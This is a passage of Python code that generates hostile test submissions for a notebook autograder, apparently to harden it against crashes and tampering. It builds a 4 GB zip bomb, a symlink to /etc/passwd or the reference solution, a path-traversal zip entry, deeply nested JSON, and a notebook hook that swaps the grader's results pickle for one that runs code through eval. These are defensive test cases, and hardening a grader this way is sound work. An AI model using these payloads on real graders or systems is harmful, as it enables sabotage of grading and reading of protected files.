    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(deflated), 0)
    return local + deflated + central + end


def deflated_zeros(n_mib: int) -> bytes:
    """Raw deflate of ``n_mib`` MiB of zeros (about 1 KB per MiB), built without inflating it."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(2**20)
    block = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
    body = block + again * (n_mib - 1) if again else block * n_mib
    return body + c.flush(zlib.Z_FINISH)


ZIP_BOMB_MIB = 4095  # the largest size a zip without zip64 can declare


@case(INVALID, suffix=".zip", reason="too large")
def zip_bomb(ctx: Context) -> bytes:
    """An otter-style zip whose notebook inflates to 4 GB (4 MB compressed), size declared."""
    return _raw_zip(f"{ctx.slug}.ipynb", deflated_zeros(ZIP_BOMB_MIB), 0, ZIP_BOMB_MIB * 2**20)


@case(INVALID, suffix=".zip", reason="cannot be read")
def zip_bomb_lying_header(ctx: Context) -> bytes:
    """The same bomb, but the header claims the notebook is 20 KB."""
    return _raw_zip(f"{ctx.slug}.ipynb", deflated_zeros(ZIP_BOMB_MIB), 0, 20_000)


def _zip(entries: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in entries:
            zf.writestr(info, data)
    return buf.getvalue()


@case(INVALID, suffix=".zip", reason="not a notebook")
def zip_symlink_outside(ctx: Context) -> bytes:
    """An otter-style zip whose notebook is a symlink to the reference solution."""
    info = zipfile.ZipInfo(f"{ctx.slug}.ipynb")
    info.create_system = 3
    info.external_attr = (0o120777 << 16)
    target = ctx.forbidden[0] if ctx.forbidden else "/etc/passwd"
    return _zip([(info, target.encode())])


@case(INVALID, suffix=".zip", reason="no notebook")
def zip_dotdot_path(ctx: Context) -> bytes:
    """A zip whose notebook is named ../../../../<marker folder>/escaped.ipynb."""
    name = "../../../../.." + str(ctx.marker.parent / "escaped-by-zip.ipynb")
    return _zip([(zipfile.ZipInfo(name), json.dumps(samples.blank(ctx.slug)).encode())])


def write_corpus(ctx: Context, dest: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the cases as ``dest/c<NN>_<name><suffix>`` (student ID ``c<NN>``); name -> file.

    Cases that run into the time limit come first: a batch grades in ID order, so they wait
    beside the others instead of alone at the end.
    """
    dest.mkdir(parents=True, exist_ok=True)
    out = {}
    ordered = sorted(names or list(CASES), key=lambda n: CASES[n].status != TIMEOUT)
    for i, name in enumerate(ordered, 1):
        c = CASES[name]
        path = dest / f"c{i:02d}_{name}{c.suffix}"
        path.write_bytes(c.file_bytes(ctx))
        out[name] = path
    return out


# ------------------------------------------------------------------------ built to break the grader's parsers
# (issue 33, hardening: each of these once stopped the whole batch or left an unrecorded internal error)

#: Arrays nested this deep make Python's ``json`` raise RecursionError (its limit is ~1,000).
DEEP_NESTING = 100_000


def _blank_with_raw(slug: str, raw_value: str) -> bytes:
    """The blank notebook with ``raw_value`` (JSON text) as a value in its metadata."""
    nb = samples.blank(slug)
    nb["metadata"]["kit_corpus"] = "@@RAW@@"
    return json.dumps(nb, ensure_ascii=False).replace('"@@RAW@@"', raw_value, 1).encode()


@case(INVALID, reason="nested")
def json_nested_100000_deep(ctx: Context) -> bytes:
    """The blank notebook with a metadata value nested 100,000 arrays deep (Python's json raised
    RecursionError, which stopped the whole batch without naming the file)."""
    return _blank_with_raw(ctx.slug, "[" * DEEP_NESTING + "]" * DEEP_NESTING)


@case(INVALID, reason="number too long")
def json_5000_digit_integer(ctx: Context) -> bytes:
    """The blank notebook with a 5,000-digit integer in its metadata (Python's json raised
    ValueError from the int-str conversion limit, which stopped the whole batch)."""
    return _blank_with_raw(ctx.slug, "9" * 5000)


_PLANT_PICKLE = f"""import glob, os, pickle, tempfile

_EXPR = ("(setattr(__import__('json'), 'dump', lambda obj, fp, **kw: fp.write('[' * {DEEP_NESTING} + "
         "']' * {DEEP_NESTING})), __import__('pickle').loads({{orig!r}}))[1]")

class _Planted:
    def __init__(self, orig):
        self.orig = orig

    def __reduce__(self):
        return (eval, (_EXPR.format(orig=self.orig),))

def _plant(*args):
    for _pkl in glob.glob(os.path.join(tempfile.gettempdir(), '*.pkl')):
        try:
            with open(_pkl, 'rb') as _f:
                _raw = _f.read()
            if b'GradingResults' not in _raw or b'__import__' in _raw:
                continue
            with open(_pkl, 'wb') as _f:
                pickle.dump(_Planted(_raw), _f)
        except Exception:
            continue

get_ipython().events.register('post_run_cell', _plant)
"""


@case(GRADED)
def pickle_planted_for_otter(ctx: Context) -> dict:
    """After every cell, replaces otter's results pickle with one that runs code in otter's own
    process when otter loads it: the code makes otter write results.json nested 100,000 deep
    (the grader's json.loads raised RecursionError: 'internal error of the grader, not
    recorded', on every run). Graded from the clean check alone."""
    return blank_with(ctx.slug, early=(_PLANT_PICKLE,))
